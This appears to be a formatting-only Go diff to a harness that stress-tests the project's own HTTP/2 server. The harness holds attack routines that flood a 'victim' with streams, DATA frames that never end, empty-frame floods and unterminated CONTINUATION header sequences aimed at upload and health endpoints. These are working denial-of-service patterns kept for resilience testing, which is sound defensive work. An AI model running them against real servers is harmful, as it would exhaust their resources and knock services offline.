@@ -45,7 +45,13 @@ func (p *peer) head(method, path string, more ...string) []byte {
 	var b bytes.Buffer
 	enc := hpack.NewEncoder(&b)
 	enc.SetMaxDynamicTableSize(0)
-	fields := append([]string{":method", method, ":scheme", "http", ":authority", "x", ":path", path, "authorization", "Bearer " + p.v.attacker}, more...)
+	fields := append(
+		[]string{
+			":method", method, ":scheme", "http", ":authority", "x", ":path", path, "authorization",
+			"Bearer " + p.v.attacker,
+		},
+		more...,
+	)
 	for i := 0; i < len(fields); i += 2 {
 		_ = enc.WriteField(hpack.HeaderField{Name: fields[i], Value: fields[i+1]})
 	}
@@ -56,7 +62,9 @@ func (p *peer) head(method, path string, more ...string) []byte {
 func (p *peer) begin(end bool, head []byte) uint32 {
 	stream := p.next
 	p.next += 2
-	_ = p.out.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: head, EndHeaders: true, EndStream: end})
+	_ = p.out.WriteHeaders(http2.HeadersFrameParam{
+		StreamID: stream, BlockFragment: head, EndHeaders: true, EndStream: end,
+	})
 	return stream
 }
 
@@ -64,7 +72,9 @@ func (p *peer) begin(end bool, head []byte) uint32 {
 func (p *peer) long(block []byte) {
 	const frame = 16 << 10
 	first := block[:min(len(block), frame)]
-	_ = p.out.WriteHeaders(http2.HeadersFrameParam{StreamID: p.next, BlockFragment: first, EndHeaders: len(first) == len(block), EndStream: true})
+	_ = p.out.WriteHeaders(http2.HeadersFrameParam{
+		StreamID: p.next, BlockFragment: first, EndHeaders: len(first) == len(block), EndStream: true,
+	})
 	for block = block[len(first):]; len(block) > 0; {
 		part := block[:min(len(block), frame)]
 		block = block[len(part):]
@@ -121,7 +131,9 @@ var frames = []attack{
 		each(16, func(i int) {
 			p := v.peer(1 << 20)
 			for j := range 64 {
-				stream := p.begin(false, p.head("PUT", fmt.Sprintf("/v1/uploads_put_chunk/%s/%d", s, i), "content-length", fmt.Sprint(1<<20)))
+				stream := p.begin(false, p.head(
+					"PUT", fmt.Sprintf("/v1/uploads_put_chunk/%s/%d", s, i), "content-length", fmt.Sprint(1<<20),
+				))
 				for range 2 + j%2 {
 					_ = p.out.WriteData(stream, false, block)
 				}
@@ -132,7 +144,10 @@ var frames = []attack{
 		block := bytes.Repeat([]byte(" "), 16<<10)
 		each(8, func(int) {
 			p := v.peer(1 << 20)
-			head := p.head("POST", "/v1/uploads_finish_batch", "content-type", "application/json", "content-length", fmt.Sprint(8<<20))
+			head := p.head(
+				"POST", "/v1/uploads_finish_batch", "content-type", "application/json", "content-length",
+				fmt.Sprint(8<<20),
+			)
 			for range streams {
 				stream := p.begin(false, head)
 				for range 8 {
@@ -144,7 +159,9 @@ var frames = []attack{
 	{name: "heads in frames that never end", strike: func(v *victim) {
 		each(300, func(int) {
 			p := v.peer(1 << 20)
-			_ = p.out.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: p.head("GET", "/healthz"), EndStream: true})
+			_ = p.out.WriteHeaders(http2.HeadersFrameParam{
+				StreamID: 1, BlockFragment: p.head("GET", "/healthz"), EndStream: true,
+			})
 			for range 16 {
 				_ = p.out.WriteContinuation(1, false, p.head("GET", "/healthz")[:10])
 			}
@@ -200,7 +217,9 @@ var frames = []attack{
 		s := v.session
 		each(8, func(int) {
 			p := v.peer(1 << 20)
-			stream := p.begin(false, p.head("PUT", fmt.Sprintf("/v1/uploads_put_chunk/%s/0", s), "content-length", fmt.Sprint(1<<20)))
+			stream := p.begin(false, p.head(
+				"PUT", fmt.Sprintf("/v1/uploads_put_chunk/%s/0", s), "content-length", fmt.Sprint(1<<20),
+			))
 			for range 20_000 {
 				_ = p.out.WriteData(stream, false, nil)
 			}
